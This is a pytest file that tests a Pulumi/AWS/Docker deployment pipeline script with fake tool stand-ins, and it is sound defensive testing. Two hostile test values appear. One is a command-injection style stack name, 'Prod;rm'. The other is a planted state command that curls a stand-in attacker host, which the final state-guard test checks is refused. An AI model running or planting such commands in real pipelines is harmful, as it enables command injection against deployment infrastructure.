"""scripts/pipeline.sh with stand-ins for pulumi, aws and docker (jq and yq are the real tools)."""

from __future__ import annotations

import functools
import hashlib
import io
import json
import shutil
import sys
import tarfile
from pathlib import Path

import pytest

from infra.build_context import image_tag
from infra.project import PROJECT
from tests.pipeline.helpers import FIXTURES, ROOT, http_server, oci_layout, run_script, tool_env, write_tool
from tests.pipeline.test_function_contract import http_event, write_contract

DIGEST = "sha256:" + "ab" * 32
REGISTRY = "123456789012.dkr.ecr.eu-west-1.amazonaws.com"
IMAGE_URI = f"{REGISTRY}/{PROJECT}-dev@{DIGEST}"
COMPONENT = f"{PROJECT}:infra:ImageRegistry"
# The step outputs each subcommand prints (tests/pipeline/test_workflows.py: the workflows read no other).
PRODUCES = {
    "stacks": {
        "building",
        "architecture",
        "runner",
        "further",
        "all",
        "tag",
        "context",
        "dockerfile",
        "platform",
        "repository",
        "subject",
    },
    "dockerfiles": {"dockerfiles", "images"},
    "prepare": {"image-uri"},
    "archive-digest": {"digest"},
    "push-archive": {"image-uri", "tag", "repository", "origin"},
    "promote": {"image-uri", "tag", "repository", "origin"},
    "rollback-request": {"stack", "version"},
}

PULUMI = """image=${PINNED_IMAGE_URI:-} cache=${BUILD_CACHE_FROM:-}
echo "pulumi $* IMAGE_URI=$image CACHE=$cache" >> "$FAKE_LOG"
case "$*" in
  "plugin install "*) ;;
  "stack select "*) [[ -n "${FAKE_STACK_EXISTS:-}" ]] ;;
  "stack init "*) ;;
  "stack output imageUri --stack "*) printf '%s\\n' "$FAKE_IMAGE_URI" ;;
  "stack output --json --stack "*) cat "$FAKE_OUTPUTS" ;;
  "stack export --stack "*) if [[ -n "${FAKE_EXPORT:-}" ]]; then cat "$FAKE_EXPORT"; else echo '{"deployment": {}}'; fi ;;
  "up "*) ;;
  "preview "*) exit "${FAKE_PREVIEW_RC:-0}" ;;
  *) echo "unexpected: pulumi $*" >&2; exit 3 ;;
esac
"""
AWS = """echo "aws $*" >> "$FAKE_LOG"
case "$1 $2" in
  "ecr describe-images") [[ -e "$FAKE_PRESENT" ]] ;;
  "ecr batch-delete-image") ;;
  *) echo "unexpected: aws $*" >&2; exit 3 ;;
esac
"""
DOCKER = """echo "docker $*" >> "$FAKE_LOG"
case "$*" in
  "buildx imagetools inspect --raw "*) cat "$FAKE_MANIFEST" ;;
  "buildx imagetools inspect --format "*) cat "$FAKE_CONFIG" ;;
  "buildx imagetools create "*) [[ -z "${FAKE_COPY_KEEPS_DIGEST-1}" ]] || touch "$FAKE_PRESENT" ;;
  "buildx build "*) ;;
  "run "*) echo 4f1c2d3e ;;
  "logs "*) echo "START RequestId: fake" ;;
  "rm "*) ;;
  *) echo "unexpected: docker $*" >&2; exit 3 ;;
esac
"""

# `python3 -m venv DIR` makes DIR/bin/python a logging stand-in (no real venv, no pip run; `-m scripts.plugins`
# prints $FAKE_PLUGINS and exits $FAKE_PLUGINS_RC); anything else is the real interpreter (infra.project,
# invoke_events.py, smoke_test.py, provenance.py).
VENV_PYTHON = """#!/usr/bin/env bash
echo "venv-python $*" >> "$FAKE_LOG"
if [[ "$*" == "-m scripts.plugins" ]]; then printf '%s' "${FAKE_PLUGINS:-}"; exit "${FAKE_PLUGINS_RC:-0}"; fi
# scripts/rollback.py resolve STACK DIGEST: no rollback recorded unless FAKE_ROLLED_BACK_TO names the image
if [[ "$1 $2 $3" == "-m scripts.rollback resolve" ]]; then echo "${FAKE_ROLLED_BACK_TO:-$5} ${FAKE_TAG:-t}"; fi
"""
PYTHON3 = f"""if [[ "$1 $2" == "-m venv" ]]; then
  echo "python3 $*" >> "$FAKE_LOG"
  mkdir -p "$3/bin"
  cat > "$3/bin/python" <<'EOF'
{VENV_PYTHON}EOF
  chmod +x "$3/bin/python"
  exit 0
fi
exec {sys.executable} "$@"
"""


@pytest.fixture
def world(tmp_path):
    return make_world(tmp_path)


def make_world(tmp_path):
    """A scratch repository (scripts, infra/project.py, stack files, a function contract) and fake tools."""
    repo = tmp_path / "repo"
    shutil.copytree(ROOT / "scripts", repo / "scripts", ignore=shutil.ignore_patterns("__pycache__"))
    (repo / "infra").mkdir()
    for module in (  # the stdlib-only modules the scripts import
        "project.py",
        "architecture.py",
        "registry_names.py",
        "build_context.py",
        "function_contract.py",
        "lambda_response.py",
        "catalogue.py",  # scripts/state_guard.py
        "iam_rules.py",
    ):
        shutil.copy(ROOT / "infra" / module, repo / "infra" / module)
    (repo / "infra" / "__init__.py").touch()
    (repo / "policy").mkdir()
    (repo / "policy" / "requirements.txt").write_text("")
    (repo / "Pulumi.yaml").write_text(
        f"name: {PROJECT}\nruntime: python\nconfig:\n  architecture:\n    type: string\n"
        "    default: x86_64\n  dockerfile:\n    type: string\n    default: function/Dockerfile\n",
        encoding="utf-8",
    )
    (repo / "Pulumi.dev.yaml").write_text(f"config:\n  {PROJECT}:architecture: arm64\n")
    (repo / "Pulumi.production.yaml").write_text("config:\n  aws:region: eu-west-1\n")
    write_contract(
        repo / "function" / "events",
        {"list.json": http_event("GET", "/items"), "gone.json": http_event("GET", "/gone")},
        {"list.json": 200, "gone.json": 404},
    )
    (repo / "function" / "Dockerfile").write_text("FROM scratch\n")
    (repo / "venv" / "bin").mkdir(parents=True)  # what `pipeline.sh prepare` leaves for the later steps
    write_tool(repo / "venv" / "bin", "python", VENV_PYTHON)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for name, body in {"pulumi": PULUMI, "aws": AWS, "docker": DOCKER, "python3": PYTHON3}.items():
        write_tool(bin_dir, name, body)
    log, output, summary = tmp_path / "calls.log", tmp_path / "output", tmp_path / "summary.md"
    for path in (log, output, summary):
        path.touch()
    env = tool_env(
        bin_dir,
        FAKE_LOG=str(log),
        FAKE_IMAGE_URI=IMAGE_URI,
        FAKE_PRESENT=str(tmp_path / "present"),
        FAKE_MANIFEST=str(FIXTURES / "manifest-docker-v2-arm64.json"),
        FAKE_CONFIG=str(FIXTURES / "config-arm64.json"),
        GITHUB_OUTPUT=str(output),
        GITHUB_STEP_SUMMARY=str(summary),
        DEPLOY_STACKS='["dev","production"]',
    )
    return {"repo": repo, "env": env, "log": log, "output": output, "summary": summary, "tmp": tmp_path}


def run(world, *args):
    return run_script(world["repo"] / "scripts" / "pipeline.sh", *args, env=world["env"])


def calls(world) -> list[str]:
    return world["log"].read_text(encoding="utf-8").splitlines()


def outputs(world) -> dict[str, str]:
    return dict(line.split("=", 1) for line in world["output"].read_text().splitlines() if line)


# --- require -----------------------------------------------------------------------------------------------


def test_require_names_every_missing_variable_where_to_set_it_and_the_bootstrap(world):
    world["env"].update(AWS_REGION="eu-west-1", ENVIRONMENT="production")
    result = run(world, "require", "repo:AWS_REGION", "repo:PULUMI_BACKEND_URL", "env:AWS_DEPLOY_ROLE_ARN")
    assert result.returncode == 1
    assert "::error title=Pipeline not set up::" in result.stdout
    assert "PULUMI_BACKEND_URL (repository variable)" in result.stdout
    assert "AWS_DEPLOY_ROLE_ARN (variable of the GitHub environment production)" in result.stdout
    assert "AWS_REGION" not in result.stdout.split("missing", 1)[1].split("Run the bootstrap")[0]
    assert "Run the bootstrap" in result.stdout and "Run workflow" in result.stdout
    assert "Pipeline not set up" in world["summary"].read_text()


def test_require_passes_when_every_variable_is_set(world):
    world["env"].update(AWS_REGION="eu-west-1", PULUMI_BACKEND_URL="s3://state")
    assert run(world, "require", "repo:AWS_REGION", "repo:PULUMI_BACKEND_URL").returncode == 0


# --- stacks ------------------------------------------------------------------------------------------------


def test_stacks_follow_the_bootstraps_order_and_never_deploy_an_unlisted_stack_file(world):
    for name in ("staging", "alice"):
        (world["repo"] / f"Pulumi.{name}.yaml").write_text("config: {}\n")
    world["env"]["DEPLOY_STACKS"] = '["dev","staging","production"]'
    result = run(world, "stacks")
    assert result.returncode == 0, result.stderr
    function = world["repo"] / "function"
    tag = image_tag(function, function / "Dockerfile", "linux/arm64")
    assert outputs(world) == {
        "building": "dev",
        "architecture": "arm64",
        "runner": "ubuntu-24.04-arm",
        "further": '["staging","production"]',
        "all": '["dev","staging","production"]',
        # what the program builds for dev (infra/build_context.py), built outside the engine by deploy.yml
        "tag": tag,
        "context": "function",
        "dockerfile": "function/Dockerfile",
        "platform": "linux/arm64",
        "repository": f"{PROJECT}-dev",
        "subject": f"{PROJECT}-dev:{tag}",
    }
    assert set(outputs(world)) == PRODUCES["stacks"]
    assert "::notice title=Stacks not deployed::not deployed: alice" in result.stdout
    assert "not deployed: alice" in world["summary"].read_text()


def test_the_first_listed_stack_builds(world):
    world["env"]["DEPLOY_STACKS"] = '["production","dev"]'
    assert run(world, "stacks").returncode == 0
    assert (outputs(world)["building"], outputs(world)["further"]) == ("production", '["dev"]')
    assert outputs(world)["architecture"] == "x86_64"  # production's: the project default


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("", "DEPLOY_STACKS must be a JSON array"),
        ("dev", "DEPLOY_STACKS must be a JSON array"),
        ("[]", "DEPLOY_STACKS must be a JSON array"),
        ('["dev",3]', "DEPLOY_STACKS must be a JSON array"),
        ('["dev","staging"]', "stack staging is in DEPLOY_STACKS but has no Pulumi.staging.yaml"),
        ('["dev","dev"]', "DEPLOY_STACKS lists a stack twice"),
        ('["dev","Prod_EU"]', "stack name 'Prod_EU' is not allowed"),
    ],
)
def test_a_bad_deploy_stacks_value_stops_the_plan(world, value, message):
    world["env"]["DEPLOY_STACKS"] = value
    result = run(world, "stacks")
    assert result.returncode != 0
    assert message in result.stderr
    assert world["output"].read_text() == ""


def test_a_stack_without_architecture_takes_the_project_default(world):
    (world["repo"] / "Pulumi.dev.yaml").write_text("config:\n  aws:region: eu-west-1\n")
    assert run(world, "stacks").returncode == 0
    assert (outputs(world)["architecture"], outputs(world)["runner"]) == ("x86_64", "ubuntu-24.04")


def test_only_the_building_stack_gives_an_empty_further_list(world):
    world["env"]["DEPLOY_STACKS"] = '["dev"]'
    result = run(world, "stacks")
    assert result.returncode == 0, result.stderr
    assert (outputs(world)["further"], outputs(world)["all"]) == ("[]", '["dev"]')
    assert "not deployed: production" in result.stdout


def test_a_bad_building_stack_file_stops_the_plan_with_the_rule(world):
    (world["repo"] / "Pulumi.dev.yaml").write_text(f"config:\n  {PROJECT}:architecture: sparc\n")
    result = run(world, "stacks")
    assert result.returncode != 0
    assert "architecture 'sparc'" in result.stderr


def test_a_stack_file_without_config_takes_the_project_default(world):
    (world["repo"] / "Pulumi.dev.yaml").write_text("encryptionsalt: v1:abc\n")
    assert run(world, "stacks").returncode == 0
    assert (outputs(world)["architecture"], outputs(world)["runner"]) == ("x86_64", "ubuntu-24.04")


@pytest.mark.parametrize("command", ["check-image", "container-test"])
def test_an_architecture_lambda_does_not_have_stops_the_step_with_the_allowed_ones(world, command):
    result = run(world, command, IMAGE_URI, "aarch64")
    assert result.returncode == 2
    assert "architecture 'aarch64' is not one of arm64, x86_64" in result.stderr
    assert not [line for line in calls(world) if line.startswith("docker")]


# --- dockerfiles -------------------------------------------------------------------------------------------


def test_dockerfiles_lists_every_dockerfile_of_the_function(world):
    function = world["repo"] / "function"
    for name in ("Dockerfile", "Dockerfile.alpine", "Dockerfile.dockerignore", "api.Dockerfile", "notes.md"):
        (function / name).write_text("FROM scratch\n")
    (function / "Dockerfile.d").mkdir()
    result = run(world, "dockerfiles")
    assert result.returncode == 0, result.stderr
    assert outputs(world)["dockerfiles"] == '["Dockerfile","Dockerfile.alpine","api.Dockerfile"]'
    assert set(outputs(world)) == PRODUCES["dockerfiles"]
    assert [(row["dockerfile"], row["architecture"]) for row in json.loads(outputs(world)["images"])] == [
        ("Dockerfile", "arm64"),
        ("Dockerfile", "x86_64"),
        ("Dockerfile.alpine", "arm64"),
        ("Dockerfile.alpine", "x86_64"),
        ("api.Dockerfile", "arm64"),
        ("api.Dockerfile", "x86_64"),
    ]


def test_dockerfiles_refuses_a_function_without_one(world):
    # a variant alone is no function: every stack that names none builds function/Dockerfile
    (world["repo"] / "function" / "Dockerfile").unlink()
    (world["repo"] / "function" / "main.Dockerfile").write_text("FROM scratch\n")
    result = run(world, "dockerfiles")
    assert result.returncode == 1
    assert "no Dockerfile (the image every stack builds" in result.stderr


# --- main-only ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("ref", ["refs/heads/feature", "refs/tags/v1", "refs/heads/main-old", ""])
def test_main_only_refuses_any_other_ref_plainly(world, ref):
    world["env"]["GITHUB_REF"] = ref
    result = run(world, "main-only")
    assert result.returncode == 1
    assert "::error title=Not main::This workflow runs only from main" in result.stdout
    assert "Not started" in world["summary"].read_text()


def test_main_only_passes_on_main(world):
    world["env"]["GITHUB_REF"] = "refs/heads/main"
    assert run(world, "main-only").returncode == 0


# --- prepare --------------------------------------------------------------------------------


def test_prepare_outputs_the_image_the_stack_runs(world):
    world["env"]["FAKE_STACK_EXISTS"] = "1"
    result = run(world, "prepare", "dev", "--init")
    assert result.returncode == 0, result.stderr
    assert outputs(world) == {"image-uri": IMAGE_URI}
    assert not [line for line in calls(world) if "stack init" in line]
    log = calls(world)
    # every install is hash-pinned: the program's venv (Pulumi.yaml's virtualenv) and the policy pack's
    assert log.index("python3 -m venv venv") < log.index(
        "venv-python -m pip install --quiet --require-hashes --requirement requirements.hashes.txt"
    )
    assert log.index("python3 -m venv policy/venv") < log.index(
        "venv-python -m pip install --quiet --require-hashes --requirement policy/requirements.hashes.txt"
    )
    # then the platform's library on the pack's path (infra/project.py link-library)
    assert log.index(
        "venv-python -m pip install --quiet --require-hashes --requirement policy/requirements.hashes.txt"
    ) < log.index("venv-python -m infra.project link-library")
    assert not [
        line for line in log if " install" in line and "--require-hashes" not in line and "plugin" not in line
    ]


def test_prepare_installs_exactly_the_plugins_the_installed_sdks_pin(world):
    world["env"]["FAKE_PLUGINS"] = "resource aws 7.51.1\nresource docker 5.2.0\n"
    assert run(world, "prepare", "dev").returncode == 0
    log = calls(world)
    installs = [line.split(" IMAGE_URI=")[0] for line in log if line.startswith("pulumi plugin install")]
    assert installs == [
        "pulumi plugin install resource aws 7.51.1 --exact",
        "pulumi plugin install resource docker 5.2.0 --exact",
    ]
    # the plugins come from the SDKs installed by hash, before the engine touches the stack
    first_install = next(i for i, line in enumerate(log) if line.startswith("pulumi plugin install"))
    assert log.index("venv-python -m scripts.plugins") < first_install
    assert first_install < next(i for i, line in enumerate(log) if line.startswith("pulumi stack select"))


def test_prepare_stops_when_the_sdks_name_no_installable_plugin_set(world):
    world["env"].update(FAKE_PLUGINS="", FAKE_PLUGINS_RC="1")
    result = run(world, "prepare", "dev")
    assert result.returncode == 1
    assert "no installable plugin set" in result.stderr
    assert not [line for line in calls(world) if line.startswith("pulumi stack")]


def test_prepare_creates_a_missing_stack_only_when_told(world):
    world["env"]["PULUMI_SECRETS_PROVIDER"] = "awskms://alias/state"
    assert run(world, "prepare", "dev").returncode == 0
    assert not [line for line in calls(world) if "stack init" in line]
    assert run(world, "prepare", "dev", "--init").returncode == 0
    assert any(
        line.startswith("pulumi stack init dev --non-interactive --secrets-provider awskms://alias/state")
        for line in calls(world)
    )
    assert outputs(world) == {"image-uri": ""}


def test_prepare_ignores_an_image_not_pinned_by_digest(world):
    world["env"].update(FAKE_STACK_EXISTS="1", FAKE_IMAGE_URI=f"{REGISTRY}/{PROJECT}-dev:latest")
    assert run(world, "prepare", "dev").returncode == 0
    assert outputs(world) == {"image-uri": ""}


def export(world, resources: list[dict]) -> None:
    """`pulumi stack export` answers a deployment of these resources (each with a URN of its type)."""
    path = world["tmp"] / "export.json"
    resources = [
        {"urn": f"urn:pulumi:dev::{PROJECT}::{r['type']}::r{i}"} | r for i, r in enumerate(resources)
    ]
    path.write_text(json.dumps({"deployment": {"resources": resources}}))
    world["env"]["FAKE_EXPORT"] = str(path)


# --- archive-digest: the OCI archive the credential-less build job hands on (real tar, jq, sha256sum) -------


def image_manifest(platform_layer: bytes = b"layer") -> bytes:
    """An OCI image manifest (one config, one layer) as buildx writes one, as bytes."""
    return json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": {
                "mediaType": "application/vnd.oci.image.config.v1+json",
                "digest": "sha256:" + hashlib.sha256(b"{}").hexdigest(),
                "size": 2,
            },
            "layers": [
                {
                    "mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
                    "digest": "sha256:" + hashlib.sha256(platform_layer).hexdigest(),
                    "size": len(platform_layer),
                }
            ],
        }
    ).encode()


def test_archive_digest_is_the_digest_of_its_one_image_manifest(world):
    manifest = image_manifest()
    archive = oci_layout(world["tmp"] / "image.tar", [manifest], [b"{}", b"layer"])
    result = run(world, "archive-digest", archive)
    assert result.returncode == 0, result.stderr
    assert outputs(world) == {"digest": "sha256:" + hashlib.sha256(manifest).hexdigest()}


INDEX = json.dumps(
    {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": []}
)


@pytest.mark.parametrize(
    ("manifests", "message"),
    [
        # two platforms, or an image with its attestation manifest: Lambda runs one image manifest
        ([image_manifest(b"amd64"), image_manifest(b"arm64")], "must hold one image manifest"),
        ([INDEX.encode()], "must hold one image manifest"),
        # a media type that is part of an allowed one is not that one
        (
            [json.dumps({"schemaVersion": 2, "mediaType": "json", "manifests": []}).encode()],
            "one image manifest",
        ),
        ([], "must hold one image manifest"),
    ],
)
def test_archive_digest_refuses_an_archive_of_anything_but_one_image_manifest(world, manifests, message):
    archive = oci_layout(world["tmp"] / "image.tar", manifests, [])
    result = run(world, "archive-digest", archive)
    assert result.returncode == 1
    assert message in result.stderr
    assert outputs(world) == {}


def test_archive_digest_refuses_a_manifest_blob_that_is_not_its_digest(world):
    manifest = image_manifest()
    archive = Path(oci_layout(world["tmp"] / "image.tar", [manifest], []))
    digest = hashlib.sha256(manifest).hexdigest()
    # the index names the manifest, the blob stored under its digest is another one
    with tarfile.open(archive) as original:
        members = {m.name: original.extractfile(m).read() for m in original.getmembers()}  # type: ignore[union-attr]
    members[f"blobs/sha256/{digest}"] = image_manifest(b"planted")
    with tarfile.open(archive, "w") as rewritten:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            rewritten.addfile(info, io.BytesIO(data))
    result = run(world, "archive-digest", str(archive))
    assert result.returncode == 1
    assert "does not hash to its digest" in result.stderr
    assert outputs(world) == {}


def test_archive_digest_refuses_a_file_that_is_no_oci_layout(world):
    archive = world["tmp"] / "image.tar"
    archive.write_bytes(b"not a tar")
    result = run(world, "archive-digest", str(archive))
    assert result.returncode == 1
    assert "is not an OCI image layout archive" in result.stderr


@functools.cache
def registry_urns(stack: str) -> list[str]:
    """The URNs the program gives the image registry and its children (the mocks' URNs name the root stack
    type, which the engine leaves out of a URN)."""
    from tests.infra.support import run_stack

    names = ["registry", "registry-repository", "registry-lifecycle", "registry-docker", "registry-image"]
    urns = {
        record.name: record.urn.replace("pulumi:pulumi:Stack$", "").replace(
            "urn:pulumi:dev::", f"urn:pulumi:{stack}::"
        )
        for record in run_stack().records
        if record.name in names
    }
    return [urns[name] for name in names]


# --- check-image -------------------------------------------------------------------------------------------


def test_a_single_manifest_of_the_function_platform_passes(world):
    result = run(world, "check-image", IMAGE_URI, "arm64")
    assert result.returncode == 0, result.stderr + result.stdout
    assert "linux/arm64" in result.stdout
    assert f"docker buildx imagetools inspect --raw {IMAGE_URI}" in calls(world)


@pytest.mark.parametrize(
    ("manifest", "config", "architecture", "message"),
    [
        (
            "manifest-oci-index-attestation.json",
            "config-arm64.json",
            "arm64",
            "an image index or manifest list",
        ),
        ("manifest-list-multiplatform.json", "config-arm64.json", "arm64", "an image index or manifest list"),
        ("manifest-attestation.json", "config-arm64.json", "arm64", "an attestation or artifact manifest"),
        ("manifest-oci-arm64.json", "config-amd64.json", "arm64", "platform linux/amd64, the function needs"),
        ("manifest-docker-v2-arm64.json", "config-arm64.json", "x86_64", "the function needs linux/amd64"),
    ],
)
def test_an_image_lambda_cannot_run_is_refused(world, manifest, config, architecture, message):
    world["env"].update(FAKE_MANIFEST=str(FIXTURES / manifest), FAKE_CONFIG=str(FIXTURES / config))
    result = run(world, "check-image", IMAGE_URI, architecture)
    assert result.returncode == 1
    assert message in result.stdout
    assert message in world["summary"].read_text()


def test_discard_deletes_the_image_so_its_tag_is_never_found_again(world):
    result = run(world, "discard", f"{PROJECT}-dev", DIGEST)
    assert result.returncode == 0, result.stderr
    deletion = f"aws ecr batch-delete-image --repository-name {PROJECT}-dev --image-ids"
    assert f"{deletion} imageDigest={DIGEST}" in calls(world)
    assert "::error title=Image discarded::" in result.stdout


# --- build-local and container-test ------------------------------------------------------------------------


def test_build_local_builds_one_platform_without_attestations(world):
    (world["repo"] / "function" / "Dockerfile").write_text("FROM scratch\n")
    assert run(world, "build-local", "function/Dockerfile", "arm64", "fn:check").returncode == 0
    assert (
        "docker buildx build --platform linux/arm64 --provenance=false --sbom=false "
        "--file function/Dockerfile --tag fn:check --load function"
    ) in calls(world)


def emulator(status_of: dict[str, int]):
    def handle(method, path, body):
        http = json.loads(body).get("requestContext", {}).get("http")
        return 200, {"statusCode": status_of[http["path"]] if http else 404}

    return handle


def container_test(world, answers):
    with http_server(emulator(answers)) as base:
        world["env"]["CONTAINER_TEST_PORT"] = base.rsplit(":", 1)[1]
        return run(world, "container-test", IMAGE_URI, "x86_64")


def test_the_container_test_runs_the_image_as_a_non_root_user_with_every_event(world):
    result = container_test(world, {"/items": 200, "/gone": 404})
    assert result.returncode == 0, result.stdout + result.stderr
    (docker_run,) = [line for line in calls(world) if line.startswith("docker run")]
    assert "--user 65534:65534" in docker_run and "--platform linux/amd64" in docker_run
    assert docker_run.endswith(IMAGE_URI)
    assert "docker rm --force 4f1c2d3e" in calls(world)


def test_a_failing_event_fails_the_container_test_and_shows_the_log(world):
    result = container_test(world, {"/items": 500, "/gone": 404})
    assert result.returncode == 1
    assert "list.json: status 500, expected 200" in result.stderr
    assert "--- container log ---" in result.stdout
    assert "docker rm --force 4f1c2d3e" in calls(world)


# --- promote -----------------------------------------------------------------------------------------------


def content_tag(world) -> str:
    """dev's image in the scratch repository: its Dockerfile, and the tag the program would give it (the
    tag's equality with the program's is tests/infra/test_build_context.py's)."""
    repo = world["tmp"] / "repo"
    (repo / "function" / "Dockerfile").write_text("FROM scratch\n")
    with (repo / "Pulumi.dev.yaml").open("a") as handle:
        handle.write(f"  {PROJECT}:dockerfile: function/Dockerfile\n")
    return image_tag(repo / "function", repo / "function" / "Dockerfile", "linux/arm64")


def test_check_promoted_accepts_this_commits_image_of_the_building_stack(world):
    source = f"{REGISTRY}/{PROJECT}-dev@{DIGEST}"
    result = run(world, "check-promoted", "dev", source, content_tag(world))
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize(
    ("source", "tag", "named"),
    [
        # an older image main once attested: another content tag
        (f"{REGISTRY}/{PROJECT}-dev@{DIGEST}", "0" * 32, "is not the content tag"),
        # an image of another repository, under the right tag
        (f"{REGISTRY}/{PROJECT}-production@{DIGEST}", None, "is not in dev's repository"),
    ],
)
def test_check_promoted_refuses_another_image_than_this_commits(world, source, tag, named):
    expected = content_tag(world)
    result = run(world, "check-promoted", "dev", source, tag or expected)
    assert result.returncode == 1
    assert named in result.stderr


def test_promote_creates_the_repository_then_copies_the_digest(world):
    result = run(world, "promote", IMAGE_URI, "a" * 32, "production")
    assert result.returncode == 0, result.stderr
    own = f"{REGISTRY}/{PROJECT}-production"
    assert outputs(world) == {
        "image-uri": f"{own}@{DIGEST}",
        "tag": "t",
        "repository": f"{PROJECT}-production",
        "origin": "reused",
    }
    log = calls(world)
    (up,) = [line for line in log if line.startswith("pulumi up")]
    assert f"IMAGE_URI={own}@{DIGEST}" in up
    assert up.split(" IMAGE_URI=")[0].split(" --target ")[1:] == registry_urns("production")[:3]
    copy = f"docker buildx imagetools create --prefer-index=false --tag {own}:{'a' * 32} {IMAGE_URI}"
    assert log.index(copy) > log.index(up)


def test_promote_runs_the_image_a_rollback_of_the_stack_went_back_to(world):
    gone_back_to = "sha256:" + "b2" * 32
    world["env"] |= {"FAKE_ROLLED_BACK_TO": gone_back_to, "FAKE_TAG": "c" * 32}
    result = run(world, "promote", IMAGE_URI, "a" * 32, "production")
    assert result.returncode == 0, result.stderr
    own = f"{REGISTRY}/{PROJECT}-production"
    # the function runs, and deploy.yml verifies the provenance of, the image gone back to, under its own tag
    assert outputs(world) == {
        "image-uri": f"{own}@{gone_back_to}",
        "tag": "c" * 32,
        "repository": f"{PROJECT}-production",
        "origin": "reused",
    }
    assert f"venv-python -m scripts.rollback resolve production {DIGEST}" in calls(world)
    assert "was rolled back in production" in result.stderr


def test_promote_skips_the_copy_when_the_digest_is_already_there(world):
    (world["tmp"] / "present").touch()
    assert run(world, "promote", IMAGE_URI, "a" * 32, "production").returncode == 0
    assert not [line for line in calls(world) if "imagetools create" in line]


def test_promote_fails_when_the_copy_changed_the_digest(world):
    world["env"]["FAKE_COPY_KEEPS_DIGEST"] = ""
    result = run(world, "promote", IMAGE_URI, "a" * 32, "production")
    assert result.returncode == 1
    assert "does not have the digest" in result.stderr
    assert outputs(world) == {}


def test_promote_refuses_an_image_not_pinned_by_digest(world):
    result = run(world, "promote", f"{REGISTRY}/{PROJECT}-dev:latest", "t", "production")
    assert result.returncode == 1
    assert "not an image by digest" in result.stderr


# --- verify, drift, rescan ---------------------------------------------------------------------------------


@pytest.mark.parametrize("stack", ["dev", "production"])
def test_drift_of_every_stack_pins_the_image_it_runs(world, stack):
    # deploy.yml deploys every stack by digest (the building stack too): nothing is built or compared by tag
    assert run(world, "drift", stack).returncode == 0
    (preview,) = [line for line in calls(world) if line.startswith("pulumi preview")]
    assert "--refresh --expect-no-changes" in preview and preview.endswith(f"IMAGE_URI={IMAGE_URI} CACHE=")
    assert f"Drift of {stack}: none" in world["summary"].read_text()


def test_drift_says_which_stack_drifted(world):
    world["env"]["FAKE_PREVIEW_RC"] = "255"
    result = run(world, "drift", "production")
    assert result.returncode == 1
    (preview,) = [line for line in calls(world) if line.startswith("pulumi preview")]
    assert f"IMAGE_URI={IMAGE_URI}" in preview
    assert "has drifted" in result.stderr and "Drift of production" in world["summary"].read_text()


@pytest.mark.parametrize(
    "args",
    [["verify", "Prod_EU"], ["promote", IMAGE_URI, "t", "../x"], ["drift", "dev", "dev"], ["nope"]],
)
def test_bad_arguments_are_refused(world, args):
    result = run(world, *args)
    assert result.returncode == 2


# --- rollback-request -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("stack", "version", "expected"),
    [
        ("", "", {"stack": "", "version": ""}),
        ("production", "12", {"stack": "production", "version": "12"}),
    ],
)
def test_the_rollback_inputs_name_a_listed_stack_and_a_version(world, stack, version, expected):
    world["env"] |= {"ROLLBACK_STACK": stack, "ROLLBACK_VERSION": version}
    result = run(world, "rollback-request")
    assert result.returncode == 0, result.stderr
    assert outputs(world) == expected


@pytest.mark.parametrize(
    ("stack", "version", "message"),
    [
        ("staging", "3", "is not one of DEPLOY_STACKS"),
        ("production", "live", "must be a published version number"),
        ("production", "", "must be a published version number"),
        ("Prod;rm", "3", ""),
    ],
)
def test_bad_rollback_inputs_stop_before_any_credential(world, stack, version, message):
    world["env"] |= {"ROLLBACK_STACK": stack, "ROLLBACK_VERSION": version}
    result = run(world, "rollback-request")
    assert result.returncode != 0 and message in result.stderr
    assert outputs(world) == {}


# --- state-guard -------------------------------------------------------------------------------------------


def test_state_guard_refuses_a_state_with_a_planted_command_and_passes_the_programs(world):
    command = {"urn": "urn:pulumi:dev::p::command:local:Command::d", "type": "command:local:Command"}
    export(world, [command | {"outputs": {"create": "python -m infra.deployment_runner"}}])
    assert run(world, "state-guard", "dev").returncode == 0
    export(world, [command | {"outputs": {"create": "true", "delete": "sh -c 'curl attacker.example'"}}])
    result = run(world, "state-guard", "dev")
    assert result.returncode == 1 and "carry a `delete` command" in result.stderr, result.stderr
